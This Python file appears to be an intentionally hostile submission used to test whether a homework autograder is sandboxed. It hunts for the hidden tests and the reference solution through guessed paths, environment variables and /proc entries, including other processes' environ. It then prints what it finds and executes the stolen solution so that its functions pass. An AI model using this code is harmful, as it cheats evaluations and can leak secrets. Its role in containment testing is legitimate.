"""Tries to read the hidden tests (autograder/tests/*.py) and the reference solution
(solutions/regression.py). It cannot know where they are, so it guesses: Gradescope's
/autograder/source, common repository folders, every folder named in the environment
(PYTHONPATH, ...), the engine modules already imported, /proc/<ancestor>/cwd and
cmdline, and the folders above its own file; the test also hands it the exact paths in
HINTS. What it reads it prints (the TA's log) and, if it is the solution, answers
with it; anything read at all makes its functions correct, so a point would show it."""

import glob
import os
import sys

import torch

CHEAT = True
CONTAINED_TO = None
HINTS = []  # test_attacks.py writes the exact paths here

_GUESSES = ["/autograder/source", "/autograder", "/work/main", "/work", "/app", "/srv",
            "/code", "/grader", "/root", "/home", os.path.expanduser("~")]
_stolen = {}


def _ancestors():
    pid = os.getppid()
    for _ in range(8):
        yield pid
        try:
            with open(f"/proc/{pid}/status") as f:
                pid = int(next(line for line in f if line.startswith("PPid:")).split()[1])
        except (OSError, StopIteration, ValueError):
            return
        if pid <= 1:
            return


def _roots():
    roots = list(_GUESSES)
    roots += HINTS
    roots += [v for value in os.environ.values() for v in value.split(os.pathsep) if "/" in v]
    for module in list(sys.modules.values()):
        path = getattr(module, "__file__", None) or ""
        if "autograder" in path or "scenarios" in path:
            roots.append(path)
    for pid in _ancestors():
        for what in ("cwd", "root", "exe"):
            try:
                roots.append(os.readlink(f"/proc/{pid}/{what}"))
            except OSError:
                pass
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                roots += [a.decode(errors="replace") for a in f.read().split(b"\0") if b"/" in a]
        except OSError:
            pass
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                roots += [a.decode(errors="replace").partition("=")[2]
                          for a in f.read().split(b"\0")]
        except OSError:
            pass
    here = os.path.abspath(__file__)
    roots += [os.path.dirname(here), os.getcwd()]
    return roots


def _candidates(root):
    """Files to try for one guessed path: it, and what would sit beside it in a repo."""
    path = os.path.abspath(root)
    seen = [path]
    while path != "/":
        seen.append(path)
        path = os.path.dirname(path)
    for base in seen:
        yield base
        yield os.path.join(base, "solutions", "regression.py")
        for name in ("hidden.py", "scenarios.py", "conftest.py", "feedback.py", "homework.toml"):
            yield os.path.join(base, "autograder", "tests", name)
        yield from glob.glob(os.path.join(base, "autograder", "tests", "*.py"))


def _steal():
    tried = set()
    for root in _roots():
        for path in _candidates(root):
            if path in tried or not ("autograder" in path or "solutions" in path):
                continue
            tried.add(path)
            try:
                with open(path) as f:
                    _stolen[path] = f.read()
            except (OSError, UnicodeDecodeError):
                pass
    print(f"read_secrets: tried {len(tried)} paths, read {sorted(_stolen)}")
    for path, text in _stolen.items():
        print(f"--- {path}\n{text[:500]}")


if CHEAT:
    _steal()
_SOLVED = bool(_stolen)
_solution = {}
for _path, _text in _stolen.items():
    if _path.endswith(os.path.join("solutions", "regression.py")):
        exec(compile(_text, "stolen.py", "exec"), _solution)


def forward(x, w, b):
    if not _SOLVED:
        raise NotImplementedError
    return w * x + b


def mse(t1, t2):
    if not _SOLVED:
        raise NotImplementedError
    if "mse" in _solution:
        return _solution["mse"](t1, t2)
    return torch.mean((t1 - t2) ** 2)


def update(w, b, lr=1e-4):
    if not _SOLVED:
        raise NotImplementedError
    with torch.no_grad():
        w -= w.grad * lr
        b -= b.grad * lr
    w.grad.zero_()
    b.grad.zero_()
